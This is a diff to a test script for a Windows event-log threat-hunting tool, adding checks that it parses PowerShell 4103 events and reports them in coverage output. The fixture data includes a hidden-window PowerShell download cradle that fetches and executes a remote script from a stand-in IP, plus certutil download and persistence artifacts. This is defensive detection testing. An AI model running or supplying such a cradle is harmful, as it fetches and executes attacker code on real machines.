@@ -17,7 +17,8 @@ import sqlite3, sys
 db = sqlite3.connect(sys.argv[1])
 kinds = dict(db.execute("SELECT kind, count(*) FROM events GROUP BY kind"))
 assert kinds == {"process": 8, "dns_query": 2, "file_create": 1,
-                 "script_block": 5, "service": 2, "task": 1}, kinds
+                 "script_block": 5, "service": 2, "task": 1,
+                 "powershell": 1}, kinds
 q = lambda sql: db.execute(sql).fetchall()
 # the block of three parts logged 1, 3, 2: joined on part 1, in order
 rows = q("SELECT record_id, script_part, script_text, script_note FROM events"
@@ -51,6 +52,17 @@ assert dns[1] == ("dl.example.test", "::ffff:203.0.113.10;",
                   "C:\\Windows\\System32\\certutil.exe"), dns
 assert q("SELECT target_filename FROM events WHERE kind = 'file_create'") == \
     [("C:\\Users\\Public\\p.exe",)]
+# 4103: the host's command line, what ran
+ps = q("SELECT event_id, image, command_line, script_text FROM events"
+       " WHERE kind = 'powershell' ORDER BY time")
+cradle = ("powershell.exe -nop -w hidden -c \"IEX (New-Object "
+          "Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')\"")
+assert [(r[0], r[1], r[2]) for r in ps] == [(4103, "powershell.exe",
+    cradle)], ps
+assert ps[0][3].startswith("CommandInvocation(Invoke-Expression)"), ps
+# Windows PowerShell 400/800 are not modelled (yet): not decoded
+assert q("SELECT count(*) FROM events WHERE event_id IN (400, 800)") == \
+    [(0,)]
 PYEOF
 
 # -- scan: findings with their context
@@ -76,7 +88,7 @@ has "rundll32 started by its service (4697)" \
 has "regsvr32 started by the task" \
     "started   2024-03-07T09:15:00.6000000Z task \\Updater created by CORP\\bob:"
 has "coverage counts the sources" \
-    "execution script blocks: 5, services: 2, tasks: 1, dns (22): 2, files (11): 1"
+    "execution script blocks: 5, powershell 4103: 1, services: 2, tasks: 1,"
 "$PY" - "$T/s.db" <<'PYEOF' && ok "process links in --db" || fail "process links in --db"
 import sqlite3, sys
 db = sqlite3.connect(sys.argv[1])
@@ -99,6 +111,11 @@ assert acts == [("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe
     "dns_query"), ("C:\\Windows\\System32\\certutil.exe", "dns_query"),
     ("C:\\Windows\\System32\\certutil.exe", "file_create"),
     ("C:\\Windows\\System32\\schtasks.exe", "task")], acts
+# 4103 names the cradle's command line as its host's
+n = db.execute("""SELECT count(*) FROM process_events pe JOIN events e
+    ON e.id = pe.process WHERE pe.kind = 'powershell'
+    AND e.image LIKE '%powershell.exe'""").fetchone()[0]
+assert n == 1, n
 PYEOF
 expect 1 "scan wks03 -f jsonl" "$EVTXHUNT" scan -q -f jsonl -r "$RULES" "$W"
 "$PY" - "$T/out" <<'PYEOF' && ok "jsonl context" || fail "jsonl context"
@@ -106,6 +123,7 @@ import json, sys
 rows = [json.loads(l) for l in open(sys.argv[1], encoding="utf-8")]
 cov = [h for r in rows if r.get("type") == "header" for h in r["coverage"]]
 assert cov[0]["powershell_4104"] == 5 and cov[0]["tasks"] == 1, cov
+assert cov[0]["powershell_4103"] == 1, cov
 fs = [r for r in rows if r.get("type") == "finding"]
 started = [f["context"]["started_by"]["kind"] for f in fs
            if f["context"]["started_by"]]
@@ -116,13 +134,15 @@ assert [a["kind"] for a in cu["context"]["activity"]] == \
 assert cu["context"]["script"]["summary"].startswith("script block"), cu
 PYEOF
 
-# -- coverage and exit 3: script blocks or services alone are examinable
-expect 0 "only script blocks: examined, nothing found" \
+# -- coverage and exit 3: PowerShell or services alone are examinable
+expect 0 "only PowerShell/Operational: examined, nothing found" \
     "$EVTXHUNT" scan -r "$RULES" "$W/wks03-powershell.evtx"
 grep -q "\[partial\]" "$T/out" && ok "script-block host is partial" ||
     fail "script-block host not partial"
-grep -q "only script blocks, services and" "$T/out" &&
+grep -q "only PowerShell, services and" "$T/out" &&
     ok "coverage says what was examined" || fail "coverage sentence"
+expect 3 "Windows PowerShell 400/800 alone: not examined (no model)" \
+    "$EVTXHUNT" scan -r "$RULES" "$W/wks03-windows-powershell.evtx"
 expect 0 "only services: examined" "$EVTXHUNT" scan -r "$RULES" \
     "$W/wks03-system.evtx"
 expect 3 "DNS and file events alone are not examinable" "$EVTXHUNT" scan \
